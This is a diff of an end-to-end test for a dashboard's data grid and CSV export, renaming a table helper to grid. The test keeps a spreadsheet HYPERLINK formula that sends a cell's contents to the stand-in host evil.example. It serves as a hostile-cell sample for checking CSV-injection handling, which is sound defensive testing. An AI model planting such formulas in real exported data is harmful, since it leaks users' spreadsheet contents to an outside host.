@@ -20,12 +20,12 @@ from .browser import PAGES, App, click_link, is_foreign, open_expanders, wait_re
 pytestmark = pytest.mark.e2e
 DOWNLOAD = "Download as CSV"  # the toolbar button's accessible name (Streamlit's, English only)
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'
-# One table drawn by the dashboard's own table() with a cell a hostile file could carry.
+# One data grid drawn by the dashboard's own grid() with a cell a hostile file could carry.
 GRID_APP = f"""
 import pandas as pd
 from dashboard import render
 
-render.table(pd.DataFrame({{"Titel": [{FORMULA!r}, "Matfestival"], "Antal": [1, 2]}}), key="grid")
+render.grid(pd.DataFrame({{"Titel": [{FORMULA!r}, "Matfestival"], "Antal": [1, 2]}}), key="grid")
 """
 
 
